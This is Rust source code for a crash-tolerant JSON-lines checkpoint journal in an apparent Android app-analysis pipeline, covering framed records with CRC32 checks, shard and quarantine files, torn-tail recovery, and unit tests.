    fn load_split(&self) -> io::Result<(Vec<AppRecord>, usize)> {
        let Some(scan) = scan_path(&self.path)? else {
            return Ok((Vec::new(), 0));
        };
        let mut records = Vec::new();
        for (i, body) in scan.bodies.iter().enumerate() {
            match serde_json::from_str::<AppRecord>(body) {
                Ok(record) => records.push(record),
                Err(_) => return Ok((records, scan.bodies.len() - i + scan.dropped)),
            }
        }
        Ok((records, scan.dropped))
    }

    /// Opens the journal for appending with stand-alone sink options
    /// (default sync policy, no fault injection), creating the file if
    /// needed and truncating any torn tail so the sequence continues
    /// cleanly.
    ///
    /// # Errors
    ///
    /// Returns the underlying open error.
    pub fn writer(&self) -> io::Result<JournalWriter> {
        self.writer_with(SinkOptions::direct(StreamKind::Journal))
    }

    /// Like [`Journal::writer`], but with explicit sink options — the
    /// pipeline threads the run's shared [`crate::durable::IoState`],
    /// sync policy, and fault harness through here.
    ///
    /// # Errors
    ///
    /// Returns the underlying open error.
    pub fn writer_with(&self, opts: SinkOptions) -> io::Result<JournalWriter> {
        Ok(JournalWriter {
            inner: FramedWriter::open(&self.path, opts)?,
        })
    }

    /// Loads quarantine entries; a missing file is an empty list.
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than the file not existing.
    pub fn load_quarantine(&self) -> io::Result<Vec<QuarantineEntry>> {
        let Some(scan) = scan_path(&self.quarantine_path())? else {
            return Ok(Vec::new());
        };
        let mut entries = Vec::new();
        for body in &scan.bodies {
            match serde_json::from_str::<QuarantineEntry>(body) {
                Ok(entry) => entries.push(entry),
                Err(_) => break,
            }
        }
        Ok(entries)
    }

    /// Rewrites the quarantine file to exactly `entries` (sorted by
    /// package for determinism); an empty list removes the file.
    ///
    /// # Errors
    ///
    /// Returns serialization or write errors.
    pub fn write_quarantine(&self, entries: &[QuarantineEntry]) -> io::Result<()> {
        let path = self.quarantine_path();
        if entries.is_empty() {
            return match std::fs::remove_file(&path) {
                Ok(()) => Ok(()),
                Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
                Err(e) => Err(e),
            };
        }
        let mut sorted: Vec<&QuarantineEntry> = entries.iter().collect();
        sorted.sort_by(|a, b| a.package.cmp(&b.package));
        let bodies = sorted
            .iter()
            .map(|e| {
                serde_json::to_string(e)
                    .map_err(|err| io::Error::new(io::ErrorKind::InvalidData, err.to_string()))
            })
            .collect::<io::Result<Vec<String>>>()?;
        std::fs::write(&path, encode_frames(0, &bodies))
    }

    /// Deletes the journal file if present (start a sweep from scratch).
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than the file not existing.
    pub fn reset(&self) -> io::Result<()> {
        // The event stream, provenance ledger, quarantine file, metrics
        // stream, profile artifact, and any shard files all describe the
        // journal's records; a reset journal must not resume against
        // stale ones.
        self.remove_shards()?;
        for side in [
            self.events_path(),
            self.provenance_path(),
            self.quarantine_path(),
            self.metrics_path(),
            self.profile_path(),
        ] {
            match std::fs::remove_file(side) {
                Ok(()) => {}
                Err(e) if e.kind() == io::ErrorKind::NotFound => {}
                Err(e) => return Err(e),
            }
        }
        match std::fs::remove_file(&self.path) {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(e),
        }
    }
}

fn record_bodies(records: &[AppRecord]) -> io::Result<Vec<String>> {
    records
        .iter()
        .map(|r| {
            serde_json::to_string(r)
                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))
        })
        .collect()
}

/// Outcome of [`Journal::recover_counted`]: the surviving records and
/// the number of corrupt frames dropped.
#[derive(Debug, Clone)]
pub struct JournalRecovery {
    /// Every record in the valid prefix before the first defect.
    pub records: Vec<AppRecord>,
    /// Frames/lines discarded from the first defect onward.
    pub dropped_lines: usize,
}

/// One quarantine entry: an app observed in-flight at a crash, with how
/// many resumes it has interrupted so far.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct QuarantineEntry {
    /// The app's package name.
    pub package: String,
    /// Interrupted attempts accumulated across resumes.
    pub attempts: u32,
}

/// An append handle to a [`Journal`]. One framed record per line,
/// flushed per append so a kill loses at most in-flight apps; fsyncs
/// follow the sink's [`crate::durable::SyncPolicy`].
#[derive(Debug)]
pub struct JournalWriter {
    inner: FramedWriter,
}

impl JournalWriter {
    /// Appends one record as a framed JSON line.
    ///
    /// # Errors
    ///
    /// Returns the underlying write error (transient faults are retried
    /// within the run's budget first). The journal is never shed.
    pub fn append(&mut self, record: &AppRecord) -> io::Result<()> {
        let body = serde_json::to_string(record)
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        match self.inner.append_body(&body)? {
            Appended::Written | Appended::Shed => Ok(()),
        }
    }

    /// Sequence number the next appended record will carry.
    pub fn seq(&self) -> u64 {
        self.inner.seq()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{DynamicOutcome, DynamicStatus};

    fn record(pkg: &str) -> AppRecord {
        AppRecord {
            package: pkg.to_string(),
            metadata: dydroid_workload::AppMetadata {
                category: 1,
                downloads: 10,
                rating_count: 2,
                avg_rating: 4.5,
            },
            decompiled: true,
            filter: Default::default(),
            obfuscation: Default::default(),
            rewritten: false,
            dynamic: Some(DynamicOutcome::empty(DynamicStatus::Exercised)),
        }
    }

    fn temp_path(tag: &str) -> PathBuf {
        std::env::temp_dir().join(format!(
            "dydroid_journal_{tag}_{}.jsonl",
            std::process::id()
        ))
    }

    #[test]
    fn round_trips_records() {
        let journal = Journal::new(temp_path("roundtrip"));
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.a")).unwrap();
            w.append(&record("com.b")).unwrap();
        }
        let loaded = journal.load().unwrap();
        assert_eq!(loaded.len(), 2);
        assert_eq!(loaded[0].package, "com.a");
        assert_eq!(loaded[1].package, "com.b");
        // Every line is a framed envelope that still parses as JSON.
        let text = std::fs::read_to_string(journal.path()).unwrap();
        for line in text.lines() {
            let v: serde::Value = serde_json::from_str(line).expect("frame is JSON");
            assert!(v.get("seq").is_some());
            assert!(v.get("crc").is_some());
            assert!(v.get("body").and_then(|b| b.get("package")).is_some());
        }
        journal.reset().unwrap();
    }

    #[test]
    fn missing_file_is_empty() {
        let journal = Journal::new(temp_path("missing"));
        journal.reset().unwrap();
        assert!(journal.load().unwrap().is_empty());
    }

    #[test]
    fn torn_tail_is_tolerated() {
        let path = temp_path("torn");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.whole")).unwrap();
        }
        // Simulate a kill mid-append: garbage half-line at the end.
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str("{\"seq\":1,\"len\":231,\"crc\":17,\"body\":{\"package\":\"com.torn");
        std::fs::write(&path, text).unwrap();
        let loaded = journal.load().unwrap();
        assert_eq!(loaded.len(), 1);
        assert_eq!(loaded[0].package, "com.whole");
        journal.reset().unwrap();
    }

    #[test]
    fn recover_truncates_the_torn_tail() {
        let path = temp_path("recover");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.whole")).unwrap();
        }
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str("{\"package\":\"com.torn\",\"metad");
        std::fs::write(&path, text).unwrap();
        assert_eq!(journal.recover().unwrap().len(), 1);
        // Appends after recovery land on a clean file, so a full reload
        // sees both records.
        journal
            .writer()
            .unwrap()
            .append(&record("com.later"))
            .unwrap();
        let loaded = journal.load().unwrap();
        assert_eq!(loaded.len(), 2);
        assert_eq!(loaded[1].package, "com.later");
        journal.reset().unwrap();
    }

    #[test]
    fn recovery_counts_dropped_lines() {
        let path = temp_path("counted");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.whole")).unwrap();
        }
        // A clean journal recovers with zero drops.
        let clean = journal.recover_counted().unwrap();
        assert_eq!(clean.records.len(), 1);
        assert_eq!(clean.dropped_lines, 0);
        // Corrupt middle line: it and everything after it is dropped
        // and counted.
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str("{\"package\":\"com.torn\",\"metad\n");
        text.push_str("not json either\n");
        std::fs::write(&path, text).unwrap();
        let recovered = journal.recover_counted().unwrap();
        assert_eq!(recovered.records.len(), 1);
        assert_eq!(recovered.dropped_lines, 2);
        journal.reset().unwrap();
    }

    #[test]
    fn a_flipped_bit_is_detected_and_dropped() {
        let path = temp_path("bitflip");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.a")).unwrap();
            w.append(&record("com.b")).unwrap();
        }
        // Flip one bit inside the second record's body.
        let mut bytes = std::fs::read(&path).unwrap();
        let target = bytes.len() - 20;
        bytes[target] ^= 0b0000_0100;
        std::fs::write(&path, &bytes).unwrap();
        let recovered = journal.recover_counted().unwrap();
        assert_eq!(recovered.records.len(), 1, "corrupt record must drop");
        assert_eq!(recovered.records[0].package, "com.a");
        assert_eq!(recovered.dropped_lines, 1);
        journal.reset().unwrap();
    }

    #[test]
    fn finalize_is_byte_deterministic_and_atomic() {
        let path = temp_path("finalize");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        let records = vec![record("com.a"), record("com.b")];
        journal.finalize_with(&records, None).unwrap();
        let first = std::fs::read(&path).unwrap();
        // Append out-of-band garbage, then finalize again: identical bytes.
        std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .and_then(|mut f| std::io::Write::write_all(&mut f, b"garbage"))
            .unwrap();
        journal.finalize_with(&records, None).unwrap();
        assert_eq!(std::fs::read(&path).unwrap(), first);
        assert_eq!(journal.load().unwrap().len(), 2);
        journal.reset().unwrap();
    }

    #[test]
    fn events_path_sits_beside_the_journal() {
        let journal = Journal::new("/tmp/sweep.jsonl");
        assert_eq!(
            journal.events_path(),
            PathBuf::from("/tmp/sweep.jsonl.events.jsonl")
        );
    }

    #[test]
    fn provenance_path_sits_beside_the_journal() {
        let journal = Journal::new("/tmp/sweep.jsonl");
        assert_eq!(
            journal.provenance_path(),
            PathBuf::from("/tmp/sweep.jsonl.provenance.jsonl")
        );
    }

    #[test]
    fn metrics_and_profile_paths_sit_beside_the_journal() {
        let journal = Journal::new("/tmp/sweep.jsonl");
        assert_eq!(
            journal.metrics_path(),
            PathBuf::from("/tmp/sweep.jsonl.metrics.jsonl")
        );
        assert_eq!(
            journal.profile_path(),
            PathBuf::from("/tmp/sweep.jsonl.profile.folded")
        );
        // The metrics sidecar must never register as a shard journal.
        let dir = std::env::temp_dir().join(format!("dydroid_metrics_disc_{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let j = Journal::new(dir.join("sweep.jsonl"));
        j.reset().unwrap();
        std::fs::write(j.metrics_path(), b"").unwrap();
        assert!(j.discover_shards().unwrap().is_empty());
        j.reset().unwrap();
        assert!(!j.metrics_path().exists(), "reset removes the stream");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn reset_removes_the_provenance_ledger() {
        let journal = Journal::new(temp_path("prov_reset"));
        journal.reset().unwrap();
        std::fs::write(journal.provenance_path(), "{}\n").unwrap();
        journal.reset().unwrap();
        assert!(!journal.provenance_path().exists());
    }

    #[test]
    fn quarantine_round_trips_and_empties_away() {
        let journal = Journal::new(temp_path("quarantine"));
        journal.reset().unwrap();
        assert!(journal.load_quarantine().unwrap().is_empty());
        let entries = vec![
            QuarantineEntry {
                package: "com.b".to_string(),
                attempts: 2,
            },
            QuarantineEntry {
                package: "com.a".to_string(),
                attempts: 1,
            },
        ];
        journal.write_quarantine(&entries).unwrap();
        let loaded = journal.load_quarantine().unwrap();
        // Stored sorted by package for deterministic reporting.
        assert_eq!(loaded.len(), 2);
        assert_eq!(loaded[0].package, "com.a");
        assert_eq!(loaded[1].package, "com.b");
        assert_eq!(loaded[1].attempts, 2);
        journal.write_quarantine(&[]).unwrap();
        assert!(!journal.quarantine_path().exists());
        journal.reset().unwrap();
    }

    #[test]
    fn reset_removes_the_quarantine_file() {
        let journal = Journal::new(temp_path("quarantine_reset"));
        journal.reset().unwrap();
        journal
            .write_quarantine(&[QuarantineEntry {
                package: "com.q".to_string(),
                attempts: 3,
            }])
            .unwrap();
        journal.reset().unwrap();
        assert!(!journal.quarantine_path().exists());
    }

    #[test]
    fn shard_paths_sit_beside_the_journal() {
        let journal = Journal::new("/tmp/sweep.jsonl");
        assert_eq!(
            journal.shard_path(3),
            PathBuf::from("/tmp/sweep.jsonl.shard-3.jsonl")
        );
        assert_eq!(
            journal.shard_provenance_path(3),
            PathBuf::from("/tmp/sweep.jsonl.shard-3.provenance.jsonl")
        );
        assert_eq!(
            journal.shard_events_path(3),
            PathBuf::from("/tmp/sweep.jsonl.shard-3.events.jsonl")
        );
    }

    #[test]
    fn shard_discovery_finds_journals_not_sidecars() {
        let dir = std::env::temp_dir().join(format!("dydroid_shard_disc_{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let journal = Journal::new(dir.join("sweep.jsonl"));
        journal.reset().unwrap();
        assert!(journal.discover_shards().unwrap().is_empty());
        // Two shard journals, one with sidecars, plus decoys that must
        // not register as shards.
        for path in [
            journal.shard_path(0),
            journal.shard_path(2),
            journal.shard_provenance_path(2),
            journal.shard_events_path(2),
            dir.join("sweep.jsonl.shard-x.jsonl"),
            dir.join("other.jsonl.shard-1.jsonl"),
        ] {
            std::fs::write(path, b"").unwrap();
        }
        assert_eq!(journal.discover_shards().unwrap(), vec![0, 2]);
        // Removal clears the full triplet of every discovered shard.
        assert_eq!(journal.remove_shards().unwrap(), 2);
        assert!(journal.discover_shards().unwrap().is_empty());
        assert!(!journal.shard_provenance_path(2).exists());
        assert!(!journal.shard_events_path(2).exists());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn reset_removes_shard_files() {
        let dir = std::env::temp_dir().join(format!("dydroid_shard_reset_{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let journal = Journal::new(dir.join("sweep.jsonl"));
        journal.reset().unwrap();
        std::fs::write(journal.shard_path(1), b"").unwrap();
        std::fs::write(journal.shard_events_path(1), b"").unwrap();
        journal.reset().unwrap();
        assert!(!journal.shard_path(1).exists());
        assert!(!journal.shard_events_path(1).exists());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn shard_journal_round_trips_records() {
        let dir = std::env::temp_dir().join(format!("dydroid_shard_rt_{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let journal = Journal::new(dir.join("sweep.jsonl"));
        journal.reset().unwrap();
        {
            let mut w = journal.shard(0).writer().unwrap();
            w.append(&record("com.shard0")).unwrap();
        }
        {
            let mut w = journal.shard(1).writer().unwrap();
            w.append(&record("com.shard1a")).unwrap();
            w.append(&record("com.shard1b")).unwrap();
        }
        assert_eq!(journal.discover_shards().unwrap(), vec![0, 1]);
        assert_eq!(journal.shard(0).load().unwrap().len(), 1);
        let shard1 = journal.shard(1).load().unwrap();
        assert_eq!(shard1.len(), 2);
        assert_eq!(shard1[0].package, "com.shard1a");
        // Per-shard sequences each start at 0.
        let scan = crate::durable::scan_path(&journal.shard_path(1))
            .unwrap()
            .unwrap();
        assert_eq!(scan.next_seq, 2);
        assert_eq!(scan.dropped, 0);
        journal.reset().unwrap();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn append_after_load_continues_file() {
        let journal = Journal::new(temp_path("resume"));
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.first")).unwrap();
            assert_eq!(w.seq(), 1);
        }
        {
            let mut w = journal.writer().unwrap();
            assert_eq!(w.seq(), 1, "sequence continues across sessions");
            w.append(&record("com.second")).unwrap();
        }
        assert_eq!(journal.load().unwrap().len(), 2);
        journal.reset().unwrap();
    }
}
