//! Checkpointed corpus sweeps: a JSON-lines journal of completed
//! [`AppRecord`]s.
//!
//! Every record finished by [`crate::Pipeline::run_resumable`] is
//! appended (and flushed) as one JSON line, so a sweep killed mid-flight
//! loses at most the apps that were in progress. On restart the journal
//! is loaded, already-analysed packages are skipped, and the sweep
//! continues. A torn final line — the usual artefact of a hard kill — is
//! tolerated: loading stops at the first unparsable line.

use std::fs::{File, OpenOptions};
use std::io::{self, Write};
use std::path::{Path, PathBuf};

use crate::pipeline::AppRecord;

/// A JSON-lines checkpoint file of completed app records.
#[derive(Debug, Clone)]
pub struct Journal {
    path: PathBuf,
}

impl Journal {
    /// A journal at `path`; the file need not exist yet.
    pub fn new(path: impl Into<PathBuf>) -> Self {
        Journal { path: path.into() }
    }

    /// The journal's path.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Path of the telemetry event stream written alongside this
    /// journal (`<journal>.events.jsonl`), used by resumed runs to
    /// stitch spans into one timeline.
    pub fn events_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".events.jsonl");
        PathBuf::from(name)
    }

    /// Path of the provenance ledger written alongside this journal
    /// (`<journal>.provenance.jsonl`), holding one causal graph per
    /// analysed app (see [`crate::provenance`]).
    pub fn provenance_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_owned();
        name.push(".provenance.jsonl");
        PathBuf::from(name)
    }

    /// Loads every complete record. A missing file is an empty journal;
    /// a torn or corrupt line ends the load (everything before it is
    /// kept), since a hard kill can only tear the tail.
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than the file not existing.
    pub fn load(&self) -> io::Result<Vec<AppRecord>> {
        Ok(self.load_split()?.0)
    }

    /// Like [`Journal::load`], but when the file ends in a torn or
    /// corrupt tail, rewrites it to exactly the valid records first —
    /// so appends after a resume extend a clean file rather than hiding
    /// behind the garbage line.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading or rewriting the file.
    pub fn recover(&self) -> io::Result<Vec<AppRecord>> {
        Ok(self.recover_counted()?.records)
    }

    /// Like [`Journal::recover`], but also reports how many corrupt
    /// lines were dropped from the tail — previously recovery discarded
    /// them silently, hiding real data loss from the operator. The
    /// pipeline surfaces the count as a telemetry counter and a stderr
    /// warning.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading or rewriting the file.
    pub fn recover_counted(&self) -> io::Result<JournalRecovery> {
        let (records, dropped_lines) = self.load_split()?;
        if dropped_lines > 0 {
            let mut text = String::new();
            for record in &records {
                text.push_str(
                    &serde_json::to_string(record)
                        .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?,
                );
                text.push('\n');
            }
            std::fs::write(&self.path, text)?;
        }
        Ok(JournalRecovery {
            records,
            dropped_lines,
        })
    }

    /// Valid leading records plus the number of non-empty lines dropped
    /// from the first unparsable line onward (0 = the whole file parsed).
    fn load_split(&self) -> io::Result<(Vec<AppRecord>, usize)> {
        let text = match std::fs::read_to_string(&self.path) {
            Ok(text) => text,
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok((Vec::new(), 0)),
            Err(e) => return Err(e),
        };
        let mut records = Vec::new();
        let mut lines = text.lines();
        while let Some(line) = lines.next() {
            if line.trim().is_empty() {
                continue;
            }
            match serde_json::from_str::<AppRecord>(line) {
                Ok(record) => records.push(record),
                Err(_) => {
                    let dropped = 1 + lines.filter(|l| !l.trim().is_empty()).count();
                    return Ok((records, dropped));
                }
            }
        }
        Ok((records, 0))
    }

    /// Opens the journal for appending, creating it if needed.
    ///
    /// # Errors
    ///
    /// Returns the underlying open error.
    pub fn writer(&self) -> io::Result<JournalWriter> {
        if let Some(dir) = self.path.parent() {
            if !dir.as_os_str().is_empty() {
                std::fs::create_dir_all(dir)?;
            }
        }
        let file = OpenOptions::new()
            .create(true)
            .append(true)
            .open(&self.path)?;
        Ok(JournalWriter { file })
    }

    /// Deletes the journal file if present (start a sweep from scratch).
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than the file not existing.
    pub fn reset(&self) -> io::Result<()> {
        // The event stream and provenance ledger describe the journal's
        // records; a reset journal must not resume against stale ones.
        for side in [self.events_path(), self.provenance_path()] {
            match std::fs::remove_file(side) {
                Ok(()) => {}
                Err(e) if e.kind() == io::ErrorKind::NotFound => {}
                Err(e) => return Err(e),
            }
        }
        match std::fs::remove_file(&self.path) {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(e),
        }
    }
}

/// Outcome of [`Journal::recover_counted`]: the surviving records and
/// the number of corrupt lines dropped from the torn tail.
#[derive(Debug, Clone)]
pub struct JournalRecovery {
    /// Every record that parsed before the first corrupt line.
    pub records: Vec<AppRecord>,
    /// Non-empty lines discarded from the first unparsable line onward.
    pub dropped_lines: usize,
}

/// An append handle to a [`Journal`]. One record per line, flushed per
/// append so a kill loses at most in-flight apps.
#[derive(Debug)]
pub struct JournalWriter {
    file: File,
}

impl JournalWriter {
    /// Appends one record as a JSON line and flushes it.
    ///
    /// # Errors
    ///
    /// Returns the underlying write error.
    pub fn append(&mut self, record: &AppRecord) -> io::Result<()> {
        let mut line = serde_json::to_string(record)
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        line.push('\n');
        self.file.write_all(line.as_bytes())?;
        self.file.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{DynamicOutcome, DynamicStatus};

    fn record(pkg: &str) -> AppRecord {
        AppRecord {
            package: pkg.to_string(),
            metadata: dydroid_workload::AppMetadata {
                category: 1,
                downloads: 10,
                rating_count: 2,
                avg_rating: 4.5,
            },
            decompiled: true,
            filter: Default::default(),
            obfuscation: Default::default(),
            rewritten: false,
            dynamic: Some(DynamicOutcome::empty(DynamicStatus::Exercised)),
        }
    }

    fn temp_path(tag: &str) -> PathBuf {
        std::env::temp_dir().join(format!(
            "dydroid_journal_{tag}_{}.jsonl",
            std::process::id()
        ))
    }

    #[test]
    fn round_trips_records() {
        let journal = Journal::new(temp_path("roundtrip"));
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.a")).unwrap();
            w.append(&record("com.b")).unwrap();
        }
        let loaded = journal.load().unwrap();
        assert_eq!(loaded.len(), 2);
        assert_eq!(loaded[0].package, "com.a");
        assert_eq!(loaded[1].package, "com.b");
        journal.reset().unwrap();
    }

    #[test]
    fn missing_file_is_empty() {
        let journal = Journal::new(temp_path("missing"));
        journal.reset().unwrap();
        assert!(journal.load().unwrap().is_empty());
    }

    #[test]
    fn torn_tail_is_tolerated() {
        let path = temp_path("torn");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.whole")).unwrap();
        }
        // Simulate a kill mid-append: garbage half-line at the end.
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str("{\"package\":\"com.torn\",\"metad");
        std::fs::write(&path, text).unwrap();
        let loaded = journal.load().unwrap();
        assert_eq!(loaded.len(), 1);
        assert_eq!(loaded[0].package, "com.whole");
        journal.reset().unwrap();
    }

    #[test]
    fn recover_truncates_the_torn_tail() {
        let path = temp_path("recover");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.whole")).unwrap();
        }
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str("{\"package\":\"com.torn\",\"metad");
        std::fs::write(&path, text).unwrap();
        assert_eq!(journal.recover().unwrap().len(), 1);
        // Appends after recovery land on a clean file, so a full reload
        // sees both records.
        journal
            .writer()
            .unwrap()
            .append(&record("com.later"))
            .unwrap();
        let loaded = journal.load().unwrap();
        assert_eq!(loaded.len(), 2);
        assert_eq!(loaded[1].package, "com.later");
        journal.reset().unwrap();
    }

    #[test]
    fn recovery_counts_dropped_lines() {
        let path = temp_path("counted");
        let journal = Journal::new(&path);
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.whole")).unwrap();
        }
        // A clean journal recovers with zero drops.
        let clean = journal.recover_counted().unwrap();
        assert_eq!(clean.records.len(), 1);
        assert_eq!(clean.dropped_lines, 0);
        // Corrupt middle line: it and everything after it is dropped
        // and counted.
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str("{\"package\":\"com.torn\",\"metad\n");
        text.push_str("not json either\n");
        std::fs::write(&path, text).unwrap();
        let recovered = journal.recover_counted().unwrap();
        assert_eq!(recovered.records.len(), 1);
        assert_eq!(recovered.dropped_lines, 2);
        journal.reset().unwrap();
    }

    #[test]
    fn events_path_sits_beside_the_journal() {
        let journal = Journal::new("/tmp/sweep.jsonl");
        assert_eq!(
            journal.events_path(),
            PathBuf::from("/tmp/sweep.jsonl.events.jsonl")
        );
    }

    #[test]
    fn provenance_path_sits_beside_the_journal() {
        let journal = Journal::new("/tmp/sweep.jsonl");
        assert_eq!(
            journal.provenance_path(),
            PathBuf::from("/tmp/sweep.jsonl.provenance.jsonl")
        );
    }

    #[test]
    fn reset_removes_the_provenance_ledger() {
        let journal = Journal::new(temp_path("prov_reset"));
        journal.reset().unwrap();
        std::fs::write(journal.provenance_path(), "{}\n").unwrap();
        journal.reset().unwrap();
        assert!(!journal.provenance_path().exists());
    }

    #[test]
    fn append_after_load_continues_file() {
        let journal = Journal::new(temp_path("resume"));
        journal.reset().unwrap();
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.first")).unwrap();
        }
        {
            let mut w = journal.writer().unwrap();
            w.append(&record("com.second")).unwrap();
        }
        assert_eq!(journal.load().unwrap().len(), 2);
        journal.reset().unwrap();
    }
}
