//! Crash-consistent record framing and fault-injectable I/O.
//!
//! Every persistent stream the sweep writes — the journal, the
//! provenance ledger, the telemetry event stream, and the metrics
//! snapshot stream — shares one framed-record format defined here:
//! each line is a self-describing JSON envelope
//!
//! ```text
//! {"seq":<n>,"len":<body bytes>,"crc":<crc32 of body>,"body":<payload json>}
//! ```
//!
//! so a reader can detect truncation (missing trailing newline or short
//! body), bit rot (CRC mismatch), and lost records (sequence gap)
//! without trusting the payload, while `jq`/`dcltrace` keep working on
//! the line-oriented JSON. Frames are written through the [`RecordIo`]
//! trait; the production impl is a plain append-mode file, and the
//! fault-injecting impl ([`FaultIo`]) consults an [`IoHarness`] that can
//! force short writes, bit-flips, transient `EINTR`/`EAGAIN`-class
//! errors, `ENOSPC`, or a full crash at any write boundary on the
//! deterministic virtual op clock — the substrate for the crash-torture
//! matrix in `workload::faults`.
//!
//! [`FramedWriter`] layers policy on top: transient-error retries with
//! exponential backoff and seeded jitter against a per-run retry budget,
//! fsync scheduling per [`SyncPolicy`], and graceful degradation on disk
//! pressure — metrics snapshots shed first, telemetry events second,
//! provenance detail third, the journal never (see [`IoState`]).

use std::fmt;
use std::fs::{File, OpenOptions};
use std::io::{self, Write};
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicU8, Ordering};
use std::sync::{Arc, OnceLock};

use dydroid_workload::faults::{retry_jitter, IoFaultKind, IoFaultScript};
use serde::{Deserialize, Serialize};

// ---------------------------------------------------------------------------
// CRC32 (IEEE 802.3 polynomial, table-driven)
// ---------------------------------------------------------------------------

fn crc_table() -> &'static [u32; 256] {
    static TABLE: OnceLock<[u32; 256]> = OnceLock::new();
    TABLE.get_or_init(|| {
        let mut table = [0u32; 256];
        for (i, slot) in table.iter_mut().enumerate() {
            let mut c = i as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
            *slot = c;
        }
        table
    })
}

/// CRC32 checksum (IEEE 802.3 reflected polynomial) of `bytes`.
///
/// Because the polynomial is not of the form `x^j`, CRC32 detects every
/// single-bit error — the property the bit-flip proptests lean on.
pub fn crc32(bytes: &[u8]) -> u32 {
    let table = crc_table();
    let mut c = 0xFFFF_FFFFu32;
    for &b in bytes {
        c = table[((c ^ u32::from(b)) & 0xFF) as usize] ^ (c >> 8);
    }
    c ^ 0xFFFF_FFFF
}

// ---------------------------------------------------------------------------
// Frame encode / decode / stream scan
// ---------------------------------------------------------------------------

/// Why a frame (and everything after it) was rejected during a scan.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FrameDefect {
    /// The line is not a frame envelope (torn tail, raw JSON, garbage).
    BadHeader,
    /// The declared `len` disagrees with the body's byte count.
    LengthMismatch,
    /// The body's CRC32 disagrees with the declared `crc`.
    CrcMismatch,
    /// The sequence number is not the expected next one.
    SeqGap {
        /// Sequence number the scan expected.
        expected: u64,
        /// Sequence number the frame declared.
        found: u64,
    },
    /// The final line has no trailing newline: an append died mid-frame.
    TornTail,
    /// The line holds bytes that are not valid UTF-8 (bit rot).
    BadUtf8,
}

impl fmt::Display for FrameDefect {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FrameDefect::BadHeader => write!(f, "unframed or torn header"),
            FrameDefect::LengthMismatch => write!(f, "length mismatch"),
            FrameDefect::CrcMismatch => write!(f, "crc mismatch"),
            FrameDefect::SeqGap { expected, found } => {
                write!(f, "sequence gap (expected {expected}, found {found})")
            }
            FrameDefect::TornTail => write!(f, "torn tail"),
            FrameDefect::BadUtf8 => write!(f, "invalid utf-8"),
        }
    }
}

/// Encodes one body line into a framed record line (with trailing `\n`).
///
/// The body must be single-line JSON; the envelope embeds it verbatim so
/// the frame itself stays valid JSON.
pub fn encode_frame(seq: u64, body: &str) -> String {
    debug_assert!(!body.contains('\n'), "frame bodies must be single-line");
    format!(
        "{{\"seq\":{seq},\"len\":{len},\"crc\":{crc},\"body\":{body}}}\n",
        len = body.len(),
        crc = crc32(body.as_bytes()),
    )
}

/// Encodes a batch of bodies as consecutive frames starting at `start_seq`.
pub fn encode_frames(start_seq: u64, bodies: &[String]) -> String {
    let mut out = String::new();
